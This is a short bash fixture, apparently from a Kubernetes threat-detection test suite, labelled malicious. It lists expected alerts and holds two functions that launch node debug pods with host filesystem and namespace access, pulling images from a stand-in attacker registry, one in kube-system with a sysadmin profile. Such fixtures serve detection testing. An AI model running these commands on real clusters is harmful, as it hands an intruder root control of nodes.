# shellcheck shell=bash disable=SC2154
# what: a debugger's pod gets the node's file system and namespaces.
# label: malicious
# expects: [node-debug-pod-created, host-root-mount, host-namespaces-shared]
# allows: [socket-parent-mount, sensitive-mount-rw, privileged-container, image-from-unknown-registry, pod-host-path-mounted, workload-in-system-namespace]
develop() { intruder debug node/node-1 --image=attacker.example/tools:1 -- sleep 1; }
hold_out() { intruder -n kube-system debug node/node-1 --profile=sysadmin --image=attacker.example/box:2 -- sleep 1; }
